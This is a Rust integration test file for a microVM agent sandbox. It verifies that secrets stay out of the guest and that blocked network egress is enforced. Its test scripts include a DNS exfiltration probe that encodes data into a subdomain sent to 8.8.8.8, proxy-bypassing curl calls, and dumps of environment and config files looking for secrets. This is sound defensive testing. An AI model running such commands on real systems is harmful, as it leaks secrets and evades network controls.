//! Whole microVM bottles, the Docker backend's scenarios: the agent sees
//! dummies while the upstream gets the real token, denied hosts and direct
//! connections and DNS all fail (also raw DNS to an outside resolver, and
//! ping), the canary is nowhere the agent or a user
//! can see, and nothing remains afterwards.
//!
//! These need a guest that boots (hardware KVM). They are gated by the boot
//! probe (cached under target/, so a host where guests hang pays its
//! deadline once): elsewhere each prints one line saying why it did not run.
//! The agent image is `BOT_BOTTLE_SMOL_TEST_IMAGE` (a registry reference or
//! a `docker save` archive with `sh`, `curl` and `getent`), default
//! `curlimages/curl:8.10.1`.

mod common;

use std::time::Duration;

use bot_bottle_plugin_api::{
    AgentLaunch, Backend, BottleRef, EgressLaunch, LaunchSpec, ListRequest, LogsRequest, Mount,
    RemoveRequest, SandboxFile, Secret, WaitRequest,
};
use bot_bottle_plugin_smolmachines::state::Paths;
use bot_bottle_plugin_smolmachines::SmolMachines;
use common::*;

fn image() -> String {
    std::env::var("BOT_BOTTLE_SMOL_TEST_IMAGE").unwrap_or_else(|_| "curlimages/curl:8.10.1".into())
}

/// Runs `script` in a fresh microVM bottle; returns (exit code, agent
/// output, bottle id). The bottle is left for the caller to inspect/remove.
fn run_bottle(tag: &str, script: &str, up: &Upstream, token: &str) -> (i32, String, String) {
    let (spec, id) = bottle_spec(tag, script, up, token);
    SmolMachines.launch(spec).expect("launch");
    finish(id)
}

/// Waits for the agent of bottle `id`; returns (exit code, output, id).
fn finish(id: String) -> (i32, String, String) {
    let exit = SmolMachines
        .wait(WaitRequest {
            schema: 1,
            bottle_id: id.clone(),
            attach: false,
        })
        .expect("wait");
    let out = std::fs::read_to_string(Paths::of(&id).agent_log()).unwrap_or_default();
    (exit.exit_code, out, id)
}

/// The launch spec of a bottle running `script`, and its id.
fn bottle_spec(tag: &str, script: &str, up: &Upstream, token: &str) -> (LaunchSpec, String) {
    state_root();
    let id = format!("bb-{tag}-{:08x}", rand::random::<u32>());
    let (config, ca_pem) = proxy_config(&id, up, token);
    let ws = tempfile::tempdir().unwrap().keep();
    let ca_vars = ["SSL_CERT_FILE", "CURL_CA_BUNDLE", "REQUESTS_CA_BUNDLE"];
    let mut env: std::collections::BTreeMap<String, String> =
        [("API_TOKEN".to_string(), "bot-bottle-dummy".to_string())].into();
    for v in ca_vars {
        env.insert(v.into(), "/etc/bot-bottle/ca.pem".into());
    }
    let spec = LaunchSpec {
        schema: 1,
        bottle_id: id.clone(),
        bottle_name: tag.into(),
        agent: AgentLaunch {
            image: image(),
            command: vec!["sh".into(), "-c".into(), script.into()],
            env,
            files: vec![SandboxFile::text("/etc/bot-bottle/ca.pem", ca_pem, 0o644)],
            workdir: "/workspace".into(),
            mounts: vec![Mount {
                host: ws,
                sandbox: "/workspace".into(),
                writable: true,
            }],
            resources: bot_bottle_plugin_api::Resources {
                cpus: Some(1.0),
                memory_bytes: Some(512 << 20),
                pids: None,
            },
            tty: false,
            interactive: false,
            attached: false,
        },
        egress: EgressLaunch {
            program: env!("CARGO_BIN_EXE_bot-bottle-smolmachines-gate").into(),
            config: Secret::new(config),
            listen_port: 3128,
            ca_cert_pem: String::new(),
        },
        backend_options: serde_json::Value::Null,
        labels: Default::default(),
    };
    (spec, id)
}

fn remove(id: &str) {
    SmolMachines
        .remove(RemoveRequest {
            bottle_id: Some(id.into()),
            ..Default::default()
        })
        .unwrap();
}

fn leftovers(id: &str) -> Vec<String> {
    let mut v = Vec::new();
    if Paths::of(id).dir().exists() {
        v.push("records".into());
    }
    let m = smolmachines::Machine::list(
        &smolmachines::ConnectOptions::default(),
        &[("bot-bottle.id", id)],
    )
    .unwrap_or_default();
    v.extend(m.into_iter().map(|m| format!("machine {}", m.name)));
    v
}

/// Whether guests boot here; prints why not and returns false otherwise.
fn booting(test: &str) -> bool {
    let Some(engine) = engine_or_skip(test) else {
        return false;
    };
    match no_boot_reason(&engine) {
        None => true,
        Some(why) => {
            eprintln!("skipped {test}: microVM guests do not boot on this host ({why})");
            false
        }
    }
}

#[test]
fn allowed_route_gets_the_real_token_while_the_agent_holds_a_dummy() {
    if !booting("allowed_route_gets_the_real_token_while_the_agent_holds_a_dummy") {
        return;
    }
    let rt = tokio::runtime::Runtime::new().unwrap();
    let up = rt.block_on(Upstream::start(&[HOST]));
    let token = canary();
    let script = r#"echo "agent-token=$API_TOKEN"; curl -sS --fail-with-body -H "Authorization: Bearer $API_TOKEN" https://api.bottle.test/v1/hello"#;
    let (code, out, id) = run_bottle("allowed", script, &up, &token);
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("agent-token=bot-bottle-dummy"), "{out}");
    assert!(out.contains("\"authorization_present\":true"), "{out}");
    assert!(!out.contains(&token));
    let reqs = up.requests();
    let hello = reqs
        .iter()
        .find(|r| r["path"] == "/v1/hello")
        .expect("upstream saw it");
    assert_eq!(hello["headers"]["authorization"], format!("Bearer {token}"));
    remove(&id);
    assert!(leftovers(&id).is_empty(), "{:?}", leftovers(&id));
}

#[test]
fn denied_hosts_direct_connections_and_dns_all_fail() {
    if !booting("denied_hosts_direct_connections_and_dns_all_fail") {
        return;
    }
    let rt = tokio::runtime::Runtime::new().unwrap();
    let up = rt.block_on(Upstream::start(&[HOST]));
    let script = r#"
echo "connect=$(curl -s -o /dev/null -w '%{http_connect}' https://denied.bottle.test/)"
echo "path=$(curl -s -o /dev/null -w '%{http_code}' https://api.bottle.test/admin)"
curl --noproxy '*' -s -m 5 -k https://1.1.1.1/ >/dev/null && echo direct=reached || echo direct=blocked
curl --noproxy '*' -s -m 5 http://1.1.1.1:8080/ >/dev/null && echo direct-port=reached || echo direct-port=blocked
getent hosts example.com >/dev/null && echo dns-external=resolved || echo dns-external=failed
"#;
    let (code, out, id) = run_bottle("denied", script, &up, &canary());
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("connect=403"), "{out}");
    assert!(out.contains("path=403"), "{out}");
    assert!(out.contains("direct=blocked"), "{out}");
    assert!(out.contains("direct-port=blocked"), "{out}");
    assert!(out.contains("dns-external=failed"), "{out}");
    assert!(up.requests().iter().all(|r| r["path"] != "/admin"));
    remove(&id);
}

#[test]
fn the_canary_is_nowhere_the_agent_or_a_user_can_see_and_the_ca_key_is_absent() {
    if !booting("the_canary_is_nowhere_the_agent_or_a_user_can_see_and_the_ca_key_is_absent") {
        return;
    }
    let rt = tokio::runtime::Runtime::new().unwrap();
    let up = rt.block_on(Upstream::start(&[HOST]));
    let token = canary();
    let script = r#"env; ls -la /etc/bot-bottle; cat /etc/bot-bottle/*; cat /proc/cmdline; curl -sS -H "Authorization: Bearer $API_TOKEN" https://api.bottle.test/v1/x"#;
    let (code, out, id) = run_bottle("canary", script, &up, &token);
    assert_eq!(code, 0, "{out}");
    assert!(!out.contains(&token), "the token reached the guest");
    assert!(!out.contains("PRIVATE KEY"), "the CA key reached the guest");
    let paths = Paths::of(&id);
    for e in std::fs::read_dir(paths.dir()).unwrap().flatten() {
        let text = std::fs::read_to_string(e.path()).unwrap_or_default();
        assert!(
            !text.contains(&token),
            "{} holds the token",
            e.path().display()
        );
    }
    let ls = SmolMachines.list(ListRequest::default()).unwrap();
    assert!(!serde_json::to_string(&ls).unwrap().contains(&token));
    let engine = bot_bottle_plugin_smolmachines::engine::discover(None).unwrap();
    let rows = engine
        .command()
        .args(["machine", "ls", "--json"])
        .output()
        .unwrap();
    assert!(
        !String::from_utf8_lossy(&rows.stdout).contains(&token),
        "the machine record holds the token"
    );
    SmolMachines
        .logs(LogsRequest {
            schema: 1,
            bottle_id: id.clone(),
            egress: true,
            follow: false,
        })
        .unwrap();
    SmolMachines
        .stop(BottleRef {
            schema: 1,
            bottle_id: id.clone(),
        })
        .unwrap();
    remove(&id);
    std::thread::sleep(Duration::from_millis(200));
    assert!(leftovers(&id).is_empty(), "{:?}", leftovers(&id));
}

/// Raw DNS to an outside resolver and a ping: neither may leave
/// the engine. The engine's gateway answers every port-53 query itself and,
/// with the DNS filter the backend sets, answers NXDOMAIN without asking any
/// upstream. Where this process may bind host port 53 on loopback (the
/// upstream the machine names), a listener there must see no query either.
#[test]
fn raw_dns_to_an_outside_resolver_and_ping_never_leave_the_engine() {
    if !booting("raw_dns_to_an_outside_resolver_and_ping_never_leave_the_engine") {
        return;
    }
    let udp = std::net::UdpSocket::bind("127.0.0.1:53").ok();
    let tcp = std::net::TcpListener::bind("127.0.0.1:53").ok();
    if udp.is_none() || tcp.is_none() {
        eprintln!("note: cannot bind 127.0.0.1:53 here; the upstream side is not watched");
    }
    for s in udp.iter() {
        s.set_nonblocking(true).unwrap();
    }
    for l in tcp.iter() {
        l.set_nonblocking(true).unwrap();
    }
    let rt = tokio::runtime::Runtime::new().unwrap();
    let up = rt.block_on(Upstream::start(&[HOST]));
    let script = r#"
label=$(echo bot-bottle-exfil | od -An -tx1 | tr -d ' \n')
nslookup "$label.example.com" 8.8.8.8 >/tmp/o1 2>&1; echo "udp-external=$?"; cat /tmp/o1
nslookup example.com 1.1.1.1 >/tmp/o2 2>&1; echo "udp-external2=$?"; cat /tmp/o2
getent hosts example.com >/dev/null && echo dns-default=resolved || echo dns-default=failed
ping -c 1 -W 3 1.1.1.1 >/dev/null 2>&1 && echo icmp=reached || echo icmp=blocked
"#;
    let (code, out, id) = run_bottle("dns", script, &up, &canary());
    assert_eq!(code, 0, "{out}");
    for bad in [
        "udp-external=0",
        "udp-external2=0",
        "dns-default=resolved",
        "icmp=reached",
    ] {
        assert!(!out.contains(bad), "{bad}: {out}");
    }
    if let Some(s) = &udp {
        let mut buf = [0u8; 512];
        assert!(
            s.recv_from(&mut buf).is_err(),
            "a guest query reached the upstream"
        );
    }
    if let Some(l) = &tcp {
        assert!(
            l.accept().is_err(),
            "a guest DNS/TCP query reached the upstream"
        );
    }
    remove(&id);
    assert!(leftovers(&id).is_empty(), "{:?}", leftovers(&id));
}

/// `bottle run` at a terminal: the agent gets a terminal in the guest and
/// the line typed into its stdin socket (what an attached `bottle run`
/// copies its own stdin to); a non-interactive agent gets no stdin socket.
#[test]
fn an_interactive_agent_gets_a_terminal_and_what_is_typed() {
    if !booting("an_interactive_agent_gets_a_terminal_and_what_is_typed") {
        return;
    }
    let rt = tokio::runtime::Runtime::new().unwrap();
    let up = rt.block_on(Upstream::start(&[HOST]));
    let script = r#"[ -t 0 ] && echo tty=yes || echo tty=no; read line; echo "got=$line""#;
    let (mut spec, id) = bottle_spec("tty", script, &up, &canary());
    spec.agent.tty = true;
    spec.agent.interactive = true;
    SmolMachines.launch(spec).expect("launch");
    let sock = Paths::of(&id).agent_stdin();
    let mut c = std::os::unix::net::UnixStream::connect(&sock).expect("the agent's stdin socket");
    use std::io::Write as _;
    c.write_all(b"hello from the host\n").unwrap();
    let (code, out, id) = finish(id);
    drop(c);
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("tty=yes"), "{out}");
    assert!(out.contains("got=hello from the host"), "{out}");
    assert!(!sock.exists(), "the stdin socket outlived the agent");
    remove(&id);

    let (code, out, id) = run_bottle(
        "notty",
        "[ -t 0 ] && echo tty=yes || echo tty=no",
        &up,
        &canary(),
    );
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("tty=no"), "{out}");
    assert!(!Paths::of(&id).agent_stdin().exists());
    remove(&id);
}
